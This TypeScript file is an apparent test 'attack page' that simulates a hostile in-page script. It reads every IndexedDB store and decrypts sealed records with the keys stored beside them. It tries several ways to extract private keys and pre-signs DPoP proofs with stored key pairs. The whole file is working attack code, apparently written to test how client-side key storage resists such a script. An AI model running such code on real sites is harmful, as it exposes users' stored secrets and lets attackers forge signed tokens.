// Attack page: a hostile script that goes to storage itself, and uses what key handles it finds there.

type Claims = Record<string, string | number>

declare global {
  interface Window {
    readonly robber: {
      /** What was sealed in storage, opened with the keys that lie beside it; and all text that was not. */
      open: () => Promise<string[]>
      /** The bytes of private keys, in whatever way they can be had. */
      exportKeys: () => Promise<string[]>
      /** Proofs signed ahead with the keys that can sign. */
      sign: (claims: Claims) => Promise<string[]>
    }
  }
}

const { subtle } = crypto

function done<T>(request: IDBRequest<T>): Promise<T> {
  return new Promise((resolve, reject) => {
    request.addEventListener('success', () => resolve(request.result))
    request.addEventListener('error', () => reject(new Error('IndexedDB failed')))
  })
}

async function readDatabase(name: string): Promise<unknown[]> {
  const database = await done(indexedDB.open(name))
  const stores = [...database.objectStoreNames]
  const values = await Promise.all(
    stores.map((store) => done(database.transaction(store).objectStore(store).getAll())),
  )
  database.close()
  return values
}

/** Every object in every database, each with what is in it. */
async function objects(): Promise<object[]> {
  const names = (await indexedDB.databases()).map(({ name = '' }) => name)
  const inside = (value: unknown): object[] => {
    if (typeof value !== 'object' || value === null || ArrayBuffer.isView(value)) return []
    return [value, ...Object.values(value).flatMap(inside)]
  }
  return inside(await Promise.all(names.map(readDatabase)))
}

async function unseal(object: object): Promise<string[]> {
  const { key, iv, bytes } = object as { key?: unknown; iv?: BufferSource; bytes?: BufferSource }
  if (!(key instanceof CryptoKey) || !iv || !bytes) return []
  return [new TextDecoder().decode(await subtle.decrypt({ name: 'AES-GCM', iv }, key, bytes))]
}

async function privateKeys(): Promise<CryptoKey[]> {
  return (await objects()).filter(
    (object) => object instanceof CryptoKey && object.type === 'private',
  ) as CryptoKey[]
}

async function exportKey(key: CryptoKey): Promise<string[]> {
  const wrapping = await subtle.generateKey({ name: 'AES-GCM', length: 256 }, true, ['wrapKey'])
  const wrap = { name: 'AES-GCM', iv: new Uint8Array(12) }
  const show = (exported: unknown) => JSON.stringify(exported)
  const ways = [
    () => subtle.exportKey('jwk', key).then(show),
    () => subtle.exportKey('pkcs8', key).then(() => 'pkcs8'),
    () => subtle.exportKey('raw' as 'pkcs8', key).then(() => 'raw'),
    () => subtle.exportKey('jwk', structuredClone(key)).then(show),
    () => subtle.wrapKey('jwk', key, wrapping, wrap).then(() => 'wrapped'),
    () => subtle.deriveBits({ name: 'ECDH', public: key }, key, 256).then(() => 'derived'),
  ]
  const tried = await Promise.allSettled(ways.map((way) => Promise.resolve().then(way)))
  return tried.flatMap((result) => (result.status === 'fulfilled' ? [result.value] : []))
}

function base64url(bytes: ArrayBuffer | Uint8Array): string {
  const text = String.fromCharCode(...new Uint8Array(bytes))
  return btoa(text).replaceAll('+', '-').replaceAll('/', '_').replaceAll('=', '')
}

async function signWith(pair: CryptoKeyPair, claims: Claims): Promise<string> {
  const { kty, crv, x, y } = await subtle.exportKey('jwk', pair.publicKey)
  const parts = [{ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } }, claims]
  const input = parts.map((part) => base64url(new TextEncoder().encode(JSON.stringify(part)))).join('.')
  const algorithm = { name: 'ECDSA', hash: 'SHA-256' }
  const signature = await subtle.sign(algorithm, pair.privateKey, new TextEncoder().encode(input))
  return `${input}.${base64url(signature)}`
}

Object.assign(window, {
  robber: {
    async open() {
      const found = await objects()
      const opened = (await Promise.all(found.map(unseal))).flat()
      return [...opened, ...found.map((object) => JSON.stringify(object))]
    },
    async exportKeys() {
      return (await Promise.all((await privateKeys()).map(exportKey))).flat()
    },
    async sign(claims: Claims) {
      const pairs = (await objects()).filter((object) => 'privateKey' in object && 'publicKey' in object)
      return Promise.all((pairs as CryptoKeyPair[]).map((pair) => signWith(pair, claims)))
    },
  },
})
